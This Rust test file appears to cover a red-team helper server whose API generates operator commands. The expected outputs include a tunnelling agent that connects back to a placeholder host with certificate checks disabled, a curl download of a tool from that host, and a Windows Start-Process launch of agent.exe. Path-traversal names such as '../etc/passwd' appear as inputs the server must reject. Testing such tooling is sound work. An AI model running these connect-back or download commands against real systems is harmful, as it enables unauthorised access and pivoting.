use serde_json::Value;

use super::test_helpers::spawn_server;

#[tokio::test]
async fn agent_command_for_linux() {
    let server = spawn_server().await;

    let resp = reqwest::get(server.url("/api/agent?os=linux"))
        .await
        .expect("get");
    assert_eq!(resp.status(), 200);
    let body: Value = resp.json().await.expect("json");
    assert_eq!(
        body["command"],
        "./agent -connect CHANGEME_PUBLIC_IP:11601 -ignore-cert"
    );
}

#[tokio::test]
async fn agent_command_for_windows() {
    let server = spawn_server().await;

    let body: Value = reqwest::get(server.url("/api/agent?os=windows"))
        .await
        .expect("get")
        .json()
        .await
        .expect("json");
    let command = body["command"].as_str().expect("string");
    assert!(command.contains("Start-Process"));
    assert!(command.contains("agent.exe"));
}

#[tokio::test]
async fn agent_command_rejects_unknown_os() {
    let server = spawn_server().await;

    for url in ["/api/agent?os=mac", "/api/agent"] {
        let resp = reqwest::get(server.url(url)).await.expect("get");
        assert_eq!(resp.status(), 400);
        let body: Value = resp.json().await.expect("json");
        assert_eq!(body["error"], "invalid os");
    }
}

#[tokio::test]
async fn download_command_embeds_the_public_url() {
    let server = spawn_server().await;

    let body: Value = reqwest::get(server.url("/api/file-command?os=linux&filename=tool.sh"))
        .await
        .expect("get")
        .json()
        .await
        .expect("json");
    assert_eq!(
        body["command"],
        "curl -o tool.sh http://CHANGEME_PUBLIC_IP:8000/tool.sh"
    );
}

#[tokio::test]
async fn download_command_rejects_traversal_filenames() {
    let server = spawn_server().await;
    let client = reqwest::Client::new();

    for os in ["linux", "windows"] {
        for filename in ["../etc/passwd", "a/b", "a\\b", "..", ""] {
            let resp = client
                .get(server.url("/api/file-command"))
                .query(&[("os", os), ("filename", filename)])
                .send()
                .await
                .expect("get");
            assert_eq!(
                resp.status(),
                400,
                "os={os} filename={filename:?} must be rejected"
            );
        }
    }
}
